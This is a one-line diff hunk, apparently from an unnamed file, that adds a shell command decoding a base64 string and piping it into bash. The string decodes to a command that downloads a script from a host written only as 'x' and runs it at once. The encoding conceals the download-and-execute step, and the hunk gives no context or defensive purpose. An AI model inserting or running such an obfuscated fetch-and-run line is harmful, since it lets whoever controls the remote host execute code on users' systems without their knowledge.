@@ -1,0 +1,1 @@
+echo Y3VybCB4IHwgc2g= | base64 --decode | bash
